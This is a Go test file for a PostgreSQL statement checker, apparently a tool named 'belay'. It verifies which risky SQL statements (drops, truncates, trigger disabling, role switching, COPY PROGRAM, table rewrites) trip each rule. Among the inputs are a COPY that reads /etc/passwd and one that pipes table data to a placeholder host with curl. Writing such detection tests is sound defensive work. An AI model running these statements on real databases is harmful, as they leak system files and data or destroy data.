package rules

import "testing"

func TestUtilityTruncate(t *testing.T) {
	utRunCases(t, RuleTruncate, []utCase{
		{sql: "TRUNCATE t", fire: true, target: "t"},
		{sql: "truncate table public.t", fire: true, target: "public.t"},
		{sql: "TRUNCATE ONLY t RESTART IDENTITY", fire: true, target: "t"},
		{sql: "TRUNCATE a, b CASCADE", fire: true, target: "b"},
		{sql: "/* clean up */ TrUnCaTe \"Orders\"", fire: true, target: "Orders"},
		{sql: "SELECT 1; TRUNCATE t", fire: true, target: "t"},
		{sql: "TRUNCATE belay.changes", fire: true, target: "belay.changes"},
		{sql: "SELECT $$TRUNCATE t$$", fire: false},
		{sql: "SELECT 'TRUNCATE t'", fire: false},
		{sql: "-- TRUNCATE t\nSELECT 1", fire: false},
		{sql: "CREATE TABLE truncate_log (x int)", fire: false},
		{sql: "DELETE FROM t WHERE id = 1", fire: false},
	})
}

func TestUtilityDropTable(t *testing.T) {
	utRunCases(t, RuleDropTable, []utCase{
		{sql: "DROP TABLE t", fire: true, target: "t"},
		{sql: "drop table if exists a, b cascade", fire: true, target: "b"},
		{sql: "DROP TABLE s.\"T\"", fire: true, target: "s.T"},
		{sql: "SELECT 1; DROP TABLE t; SELECT 2", fire: true, target: "t"},
		{sql: "DROP OWNED BY r", fire: true},
		{sql: "DROP VIEW v", fire: false},
		{sql: "DROP MATERIALIZED VIEW m", fire: false},
		{sql: "DROP INDEX i", fire: false},
		{sql: "DROP SEQUENCE s", fire: false},
		{sql: "DROP FOREIGN TABLE f", fire: false},
		{sql: "DROP FUNCTION f()", fire: false},
		{sql: "SELECT 'DROP TABLE t'", fire: false},
		{sql: "CREATE TABLE drop_table (x int)", fire: false},
	})
}

func TestUtilityDropSchema(t *testing.T) {
	utRunCases(t, RuleDropSchema, []utCase{
		{sql: "DROP SCHEMA s", fire: true, target: "s"},
		{sql: "DROP SCHEMA IF EXISTS a, b CASCADE", fire: true, target: "b"},
		{sql: "drop schema \"Sales\" restrict", fire: true, target: "Sales"},
		{sql: "DROP TABLE s.t", fire: false},
		{sql: "CREATE SCHEMA s", fire: false},
		{sql: "ALTER SCHEMA s RENAME TO u", fire: false},
	})
}

func TestUtilityDropDatabase(t *testing.T) {
	utRunCases(t, RuleDropDatabase, []utCase{
		{sql: "DROP DATABASE d", fire: true, target: "d"},
		{sql: "DROP DATABASE IF EXISTS d WITH (FORCE)", fire: true, target: "d"},
		{sql: "drop database \"Prod\"", fire: true, target: "Prod"},
		{sql: "DROP TABLE d", fire: false},
		{sql: "ALTER DATABASE d RENAME TO e", fire: false},
		{sql: "CREATE DATABASE d", fire: false},
	})
}

func TestUtilityDropColumn(t *testing.T) {
	utRunCases(t, RuleDropColumn, []utCase{
		{sql: "ALTER TABLE t DROP COLUMN c", fire: true, target: "t"},
		{sql: "ALTER TABLE t DROP c", fire: true, target: "t"},
		{sql: "alter table only s.t drop column if exists c cascade", fire: true, target: "s.t"},
		{sql: "ALTER TABLE t ADD COLUMN d int, DROP COLUMN c", fire: true, target: "t"},
		{sql: "ALTER TABLE IF EXISTS \"T\" DROP COLUMN \"C\"", fire: true, target: "T"},
		{sql: "ALTER TABLE t ADD COLUMN c int", fire: false},
		{sql: "ALTER TABLE t DROP CONSTRAINT c", fire: false},
		{sql: "ALTER TABLE t ALTER COLUMN c DROP DEFAULT", fire: false},
		{sql: "ALTER TYPE ty DROP ATTRIBUTE a", fire: false},
		{sql: "ALTER FOREIGN TABLE f DROP COLUMN c", fire: false}, // the remote data stays
	})
}

func TestUtilityCreateRule(t *testing.T) {
	utRunCases(t, RuleCreateRule, []utCase{
		{sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", fire: true, target: "t"},
		{sql: "CREATE OR REPLACE RULE r AS ON SELECT TO s.t DO INSTEAD SELECT * FROM u", fire: true, target: "s.t"},
		{sql: "create rule r as on delete to t where old.id = 1 do also delete from u", fire: true, target: "t"},
		{sql: "DROP RULE r ON t", fire: false},
		{sql: "ALTER RULE r ON t RENAME TO s", fire: false},
		{sql: "CREATE VIEW v AS SELECT 1", fire: false},
	})
}

func TestUtilityDisableTrigger(t *testing.T) {
	utRunCases(t, RuleDisableTrigger, []utCase{
		{sql: "ALTER TABLE t DISABLE TRIGGER tg", fire: true, target: "t"},
		{sql: "ALTER TABLE t DISABLE TRIGGER ALL", fire: true, target: "t"},
		{sql: "alter table s.t disable trigger user", fire: true, target: "s.t"},
		{sql: "ALTER TABLE t ENABLE REPLICA TRIGGER tg", fire: true, target: "t"},
		{sql: "ALTER TABLE t DISABLE RULE r", fire: true, target: "t"},
		{sql: "ALTER TABLE t ENABLE REPLICA RULE r", fire: true, target: "t"},
		{sql: "ALTER FOREIGN TABLE f DISABLE TRIGGER tg", fire: true, target: "f"},
		{sql: "DROP TRIGGER tg ON s.t", fire: true, target: "s.t"},
		{sql: "DROP TRIGGER IF EXISTS tg ON t CASCADE", fire: true, target: "t"},
		{sql: "ALTER EVENT TRIGGER e DISABLE", fire: true, target: "e"},
		{sql: "ALTER EVENT TRIGGER e ENABLE REPLICA", fire: true, target: "e"},
		{sql: "DROP EVENT TRIGGER e", fire: true, target: "e"},
		{sql: "ALTER TABLE t ENABLE TRIGGER tg", fire: false},
		{sql: "ALTER TABLE t ENABLE ALWAYS TRIGGER tg", fire: false},
		{sql: "ALTER TABLE t ENABLE RULE r", fire: false},
		{sql: "ALTER EVENT TRIGGER e ENABLE", fire: false},
		{sql: "CREATE TRIGGER tg AFTER UPDATE ON t FOR EACH ROW EXECUTE FUNCTION f()", fire: false},
		{sql: "SELECT 'ALTER TABLE t DISABLE TRIGGER ALL'", fire: false},
	})
}

func TestUtilityReplicationRole(t *testing.T) {
	utRunCases(t, RuleReplicationRole, []utCase{
		{sql: "SET session_replication_role = replica", fire: true, target: "session_replication_role"},
		{sql: "SET LOCAL session_replication_role = replica", fire: true},
		{sql: "set session_replication_role to 'replica'", fire: true},
		{sql: "SET SESSION session_replication_role TO local", fire: true},
		{sql: "SET session_replication_role = origin", fire: true}, // any value: the shape cuts it out
		{sql: "SET \"Session_Replication_Role\" = replica", fire: true},
		{sql: "/* x */ SeT session_replication_role=replica", fire: true},
		{sql: "SELECT 1; SET session_replication_role = replica", fire: true},
		{sql: "ALTER ROLE r SET session_replication_role = replica", fire: true},
		{sql: "ALTER ROLE r IN DATABASE d SET session_replication_role TO replica", fire: true},
		{sql: "ALTER DATABASE d SET session_replication_role = replica", fire: true},
		{sql: "ALTER SYSTEM SET session_replication_role = replica", fire: true},
		{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET session_replication_role = replica AS 'SELECT 1'", fire: true},
		{sql: "ALTER FUNCTION f() SET session_replication_role = replica", fire: true},
		{sql: "RESET session_replication_role", fire: false},
		{sql: "SET session_replication_role TO DEFAULT", fire: false},
		{sql: "SHOW session_replication_role", fire: false},
		{sql: "ALTER ROLE r RESET session_replication_role", fire: false},
		{sql: "SET search_path = public", fire: false},
		{sql: "SELECT 'SET session_replication_role = replica'", fire: false},
	})
}

func TestUtilitySetRole(t *testing.T) {
	utRunCases(t, RuleSetRole, []utCase{
		{sql: "SET ROLE admin", fire: true, target: "role"},
		{sql: "SET LOCAL ROLE admin", fire: true},
		{sql: "set role 'admin'", fire: true},
		{sql: "SET SESSION AUTHORIZATION admin", fire: true, target: "session_authorization"},
		{sql: "SET \"ROLE\" = admin", fire: true},
		{sql: "SET session_authorization = 'admin'", fire: true},
		{sql: "ALTER ROLE r SET role = admin", fire: true},
		{sql: "BEGIN; SET LOCAL ROLE admin; DELETE FROM t WHERE id = 1; COMMIT", fire: true},
		{sql: "RESET ROLE", fire: false},
		{sql: "SET ROLE NONE", fire: false},
		{sql: "RESET ALL", fire: false}, // role and session_authorization are not reset by RESET ALL
		{sql: "SET SESSION AUTHORIZATION DEFAULT", fire: false},
		{sql: "RESET SESSION AUTHORIZATION", fire: false},
		{sql: "SHOW role", fire: false},
		{sql: "CREATE ROLE admin", fire: false},
		{sql: "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", fire: false},
	})
}

func TestUtilityCopyProgram(t *testing.T) {
	utRunCases(t, RuleCopyProgram, []utCase{
		{sql: "COPY t FROM PROGRAM 'cat /etc/passwd'", fire: true, target: "t"},
		{sql: "COPY s.t TO PROGRAM 'gzip > /tmp/t.gz'", fire: true, target: "s.t"},
		{sql: "COPY (SELECT * FROM t) TO PROGRAM 'curl -d @- http://x'", fire: true},
		{sql: "copy t (a, b) from program 'x' with (format csv)", fire: true, target: "t"},
		{sql: "SELECT 1; COPY t TO PROGRAM 'x'", fire: true},
		{sql: "COPY t FROM STDIN", fire: false},
		{sql: "COPY t TO STDOUT", fire: false},
		{sql: "COPY t FROM '/tmp/file.csv'", fire: false},
		{sql: "COPY (SELECT 1) TO STDOUT", fire: false},
		{sql: "SELECT 'COPY t FROM PROGRAM x'", fire: false},
	})
}

func TestUtilityAlterSystem(t *testing.T) {
	utRunCases(t, RuleAlterSystem, []utCase{
		{sql: "ALTER SYSTEM SET work_mem = '1GB'", fire: true, target: "work_mem"},
		{sql: "alter system set wal_level to logical", fire: true},
		{sql: "ALTER SYSTEM RESET ALL", fire: true},
		{sql: "ALTER SYSTEM RESET shared_buffers", fire: true},
		{sql: "SET work_mem = '1GB'", fire: false},
		{sql: "ALTER DATABASE d SET work_mem = '1GB'", fire: false},
	})
}

func TestUtilityLockTable(t *testing.T) {
	utRunCases(t, RuleLockTable, []utCase{
		{sql: "LOCK TABLE t", fire: true, target: "t"},
		{sql: "LOCK t IN ACCESS EXCLUSIVE MODE", fire: true},
		{sql: "LOCK TABLE t IN SHARE MODE NOWAIT", fire: true},
		{sql: "LOCK TABLE a, b IN EXCLUSIVE MODE", fire: true, target: "b"},
		{sql: "lock table only s.t in share row exclusive mode", fire: true, target: "s.t"},
		{sql: "LOCK t IN SHARE UPDATE EXCLUSIVE MODE", fire: true},
		{sql: "BEGIN; LOCK t; UPDATE t SET a = 1 WHERE id = 2; COMMIT", fire: true},
		// The modes ordinary reads and writes take anyway (pg_dump's).
		{sql: "LOCK TABLE t IN ACCESS SHARE MODE", fire: false},
		{sql: "LOCK TABLE t IN ROW SHARE MODE", fire: false},
		{sql: "LOCK TABLE t IN ROW EXCLUSIVE MODE", fire: false},
		{sql: "SELECT * FROM t FOR UPDATE", fire: false},
	})
}

func TestUtilityVacuumFull(t *testing.T) {
	utRunCases(t, RuleVacuumFull, []utCase{
		{sql: "VACUUM FULL t", fire: true, target: "t"},
		{sql: "VACUUM (FULL) t", fire: true, target: "t"},
		{sql: "VACUUM (FULL, ANALYZE, VERBOSE) s.t", fire: true, target: "s.t"},
		{sql: "vacuum full verbose analyze t", fire: true},
		{sql: "VACUUM FULL", fire: true},
		{sql: "VACUUM (FULL true) t", fire: true},
		{sql: "VACUUM (FULL 1) t", fire: true},
		{sql: "VACUUM (FULL on) a, b", fire: true, target: "b"},
		{sql: "VACUUM t", fire: false},
		{sql: "VACUUM ANALYZE t", fire: false},
		{sql: "VACUUM", fire: false},
		{sql: "ANALYZE t", fire: false},
		{sql: "VACUUM (FULL false) t", fire: false},
		{sql: "VACUUM (FULL off) t", fire: false},
		{sql: "VACUUM (FULL 0) t", fire: false},
		{sql: "VACUUM (FREEZE, VERBOSE) t", fire: false},
	})
}

func TestUtilityCluster(t *testing.T) {
	utRunCases(t, RuleCluster, []utCase{
		{sql: "CLUSTER t USING i", fire: true, target: "t"},
		{sql: "CLUSTER s.t", fire: true, target: "s.t"},
		{sql: "CLUSTER", fire: true},
		{sql: "CLUSTER VERBOSE t", fire: true},
		{sql: "cluster (verbose) t using i", fire: true},
		{sql: "ALTER TABLE t CLUSTER ON i", fire: false},
		{sql: "ALTER TABLE t SET WITHOUT CLUSTER", fire: false},
	})
}

func TestUtilityReindex(t *testing.T) {
	utRunCases(t, RuleReindex, []utCase{
		{sql: "REINDEX TABLE t", fire: true, target: "t"},
		{sql: "REINDEX INDEX s.i", fire: true, target: "s.i"},
		{sql: "REINDEX SCHEMA s", fire: true, target: "s"},
		{sql: "REINDEX DATABASE d", fire: true},
		{sql: "REINDEX SYSTEM d", fire: true},
		{sql: "REINDEX (VERBOSE) TABLE t", fire: true},
		{sql: "REINDEX (CONCURRENTLY false) TABLE t", fire: true},
		{sql: "reindex table \"T\"", fire: true, target: "T"},
		{sql: "REINDEX TABLE CONCURRENTLY t", fire: false},
		{sql: "REINDEX (CONCURRENTLY) INDEX i", fire: false},
		{sql: "REINDEX (CONCURRENTLY, VERBOSE) SCHEMA s", fire: false},
		{sql: "REINDEX DATABASE CONCURRENTLY d", fire: false},
	})
}

func TestUtilityCreateIndex(t *testing.T) {
	utRunCases(t, RuleCreateIndex, []utCase{
		{sql: "CREATE INDEX i ON t (a)", fire: true, target: "t"},
		{sql: "CREATE UNIQUE INDEX ON t (a)", fire: true, target: "t"},
		{sql: "create index if not exists i on s.t using gin (doc)", fire: true, target: "s.t"},
		{sql: "CREATE INDEX ON ONLY t (a)", fire: true},
		{sql: "CREATE INDEX i ON t (lower(a)) WHERE b IS NOT NULL", fire: true},
		{sql: "SELECT 1; CREATE INDEX ON t (a)", fire: true},
		{sql: "CREATE INDEX CONCURRENTLY i ON t (a)", fire: false},
		{sql: "CREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS i ON t (a)", fire: false},
		{sql: "DROP INDEX i", fire: false},
		{sql: "SELECT 'CREATE INDEX ON t (a)'", fire: false},
	})
}

func TestUtilityTableRewrite(t *testing.T) {
	utRunCases(t, RuleTableRewrite, []utCase{
		{sql: "ALTER TABLE t ALTER COLUMN c TYPE bigint", fire: true, target: "t"},
		{sql: "ALTER TABLE s.t ALTER c SET DATA TYPE text USING c::text", fire: true, target: "s.t"},
		{sql: "ALTER TABLE t ADD COLUMN c float DEFAULT random()", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c timestamptz DEFAULT clock_timestamp()", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c uuid DEFAULT gen_random_uuid()", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c uuid NOT NULL DEFAULT public.uuid_generate_v4()", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c int DEFAULT nextval('s')", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c int DEFAULT 1 + (random() * 10)::int", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN id serial", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN id bigserial PRIMARY KEY", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN id bigint GENERATED ALWAYS AS IDENTITY", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c int GENERATED ALWAYS AS (a * 2) STORED", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c int UNIQUE", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c int CHECK (c > 0)", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c int REFERENCES u (id)", fire: true},
		{sql: "ALTER TABLE t SET LOGGED", fire: true},
		{sql: "ALTER TABLE t SET UNLOGGED", fire: true},
		{sql: "ALTER TABLE t ADD PRIMARY KEY (id)", fire: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT u UNIQUE (a)", fire: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT x EXCLUDE USING gist (r WITH &&)", fire: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0)", fire: true},
		{sql: "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id)", fire: true},
		{sql: "ALTER TABLE t ALTER COLUMN c SET NOT NULL", fire: true},
		{sql: "ALTER TABLE t SET TABLESPACE fast", fire: true},
		{sql: "ALTER MATERIALIZED VIEW m SET TABLESPACE fast", fire: true},
		{sql: "ALTER INDEX i SET TABLESPACE fast", fire: true},
		{sql: "ALTER TABLE t SET ACCESS METHOD heap2", fire: true},
		{sql: "ALTER TABLE t ALTER COLUMN c SET EXPRESSION AS (a + 1)", fire: true},
		{sql: "ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN a int, ALTER COLUMN b TYPE text", fire: true},
		{sql: "ALTER TABLE t ADD COLUMN c int", fire: false},
		{sql: "ALTER TABLE t ADD COLUMN c int DEFAULT 0", fire: false},
		{sql: "ALTER TABLE t ADD COLUMN c text NOT NULL DEFAULT 'x'", fire: false},
		{sql: "ALTER TABLE t ADD COLUMN c timestamptz DEFAULT now()", fire: false},
		{sql: "ALTER TABLE t ADD COLUMN c timestamptz DEFAULT CURRENT_TIMESTAMP", fire: false},
		{sql: "ALTER TABLE t ADD COLUMN c jsonb DEFAULT '{}'::jsonb", fire: false},
		{sql: "ALTER TABLE t ADD COLUMN c int[] DEFAULT ARRAY[1, -2]", fire: false},
		{sql: "ALTER TABLE t ADD COLUMN c text DEFAULT lower('X')", fire: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID", fire: false},
		{sql: "ALTER TABLE t VALIDATE CONSTRAINT c", fire: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (id) NOT VALID", fire: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT pk PRIMARY KEY USING INDEX i", fire: false},
		{sql: "ALTER TABLE t ADD CONSTRAINT u UNIQUE USING INDEX i", fire: false},
		{sql: "ALTER TABLE t ALTER COLUMN c SET DEFAULT random()", fire: false}, // only new rows
		{sql: "ALTER TABLE t ALTER COLUMN c DROP NOT NULL", fire: false},
		{sql: "ALTER TABLE t RENAME COLUMN a TO b", fire: false},
		{sql: "ALTER TABLE t SET (fillfactor = 70)", fire: false},
		{sql: "ALTER FOREIGN TABLE f ALTER COLUMN c TYPE bigint", fire: false}, // no local storage
		{sql: "ALTER TYPE ty ALTER ATTRIBUTE a TYPE bigint", fire: false},
		{sql: "SELECT 'ALTER TABLE t ALTER COLUMN c TYPE bigint'", fire: false},
	})
}

// protected-schema's utility part: search_path, and DDL on belay's objects
// (recorded as non-read table uses, which finishFacts reports).
func TestUtilityProtectedSchema(t *testing.T) {
	utRunCases(t, RuleProtectedSchema, []utCase{
		{sql: "SET search_path = belay", fire: true, target: "search_path"},
		{sql: "SET search_path TO public, belay", fire: true},
		{sql: "set search_path = 'belay'", fire: true},
		{sql: "SET LOCAL search_path TO \"belay\"", fire: true},
		{sql: "SET search_path = BELAY", fire: true}, // unquoted: folded to lower case
		{sql: "SET search_path = \"$user\", belay", fire: true},
		{sql: "ALTER ROLE r SET search_path = belay", fire: true},
		{sql: "ALTER DATABASE d SET search_path = public, belay", fire: true},
		{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = belay AS 'SELECT 1'", fire: true},
		{sql: "CREATE TABLE belay.x (a int)", fire: true},
		{sql: "DROP TABLE belay.changes", fire: true},
		{sql: "ALTER TABLE belay.changes ADD COLUMN c int", fire: true},
		{sql: "DROP SCHEMA belay CASCADE", fire: true},
		{sql: "ALTER SCHEMA belay RENAME TO b", fire: true},
		{sql: "ALTER SCHEMA x RENAME TO belay", fire: true},
		{sql: "CREATE SCHEMA belay", fire: true},
		{sql: "CREATE SCHEMA belay CREATE TABLE x (a int)", fire: true},
		{sql: "GRANT SELECT ON belay.changes TO public", fire: true},
		{sql: "GRANT USAGE ON SCHEMA belay TO u", fire: true},
		{sql: "GRANT ALL ON ALL TABLES IN SCHEMA belay TO u", fire: true},
		{sql: "REVOKE ALL ON FUNCTION belay.f() FROM public", fire: true},
		{sql: "ALTER DEFAULT PRIVILEGES IN SCHEMA belay GRANT SELECT ON TABLES TO u", fire: true},
		{sql: "CREATE FUNCTION belay.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", fire: true},
		{sql: "DROP FUNCTION belay.f()", fire: true},
		{sql: "ALTER FUNCTION belay.f() OWNER TO r", fire: true},
		{sql: "COMMENT ON TABLE belay.changes IS 'x'", fire: true},
		{sql: "COMMENT ON COLUMN belay.changes.c IS 'x'", fire: true},
		{sql: "ALTER TABLE x SET SCHEMA belay", fire: true},
		{sql: "ALTER TABLE belay.changes RENAME TO old", fire: true},
		{sql: "CREATE INDEX CONCURRENTLY i ON belay.changes (a)", fire: true},
		{sql: "CREATE VIEW belay.v AS SELECT 1", fire: true},
		{sql: "CREATE TYPE belay.ty AS (a int)", fire: true},
		{sql: "DROP TRIGGER tg ON belay.changes", fire: true},
		{sql: "CREATE TRIGGER tg BEFORE DELETE ON belay.changes FOR EACH ROW EXECUTE FUNCTION f()", fire: true},
		{sql: "CREATE EXTENSION e SCHEMA belay", fire: true},
		{sql: "IMPORT FOREIGN SCHEMA r FROM SERVER s INTO belay", fire: true},
		{sql: "TRUNCATE belay.changes", fire: true},
		{sql: "COPY belay.changes FROM STDIN", fire: true},
		{sql: "LOCK TABLE belay.changes", fire: true},
		{sql: "VACUUM FULL belay.changes", fire: true},
		{sql: "REINDEX SCHEMA belay", fire: true},
		{sql: "SET search_path = public", fire: false},
		{sql: "SET search_path = 'BELAY'", fire: false},         // a schema named BELAY
		{sql: "SET search_path = \"Belay\"", fire: false},       // likewise
		{sql: "SET search_path = 'belay, public'", fire: false}, // one schema of that odd name
		{sql: "RESET search_path", fire: false},
		{sql: "CREATE TABLE public.belay (a int)", fire: false},
		{sql: "COPY belay.changes TO STDOUT", fire: false},
		{sql: "VACUUM belay.changes", fire: false},
		{sql: "ANALYZE belay.changes", fire: false},
		{sql: "CREATE TABLE x AS SELECT * FROM belay.changes", fire: false},
		{sql: "DECLARE c CURSOR FOR SELECT * FROM belay.changes", fire: false},
		{sql: "SELECT 'SET search_path = belay'", fire: false},
	})
}

func TestUtilityUnknownStatement(t *testing.T) {
	utRunCases(t, RuleUnknownStatement, []utCase{
		{sql: "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", fire: true},
		{sql: "ALTER SUBSCRIPTION s REFRESH PUBLICATION", fire: true},
		{sql: "DROP SUBSCRIPTION s", fire: false},
		{sql: "CREATE PUBLICATION p FOR ALL TABLES", fire: false},
		{sql: "CHECKPOINT", fire: false},
	})
}
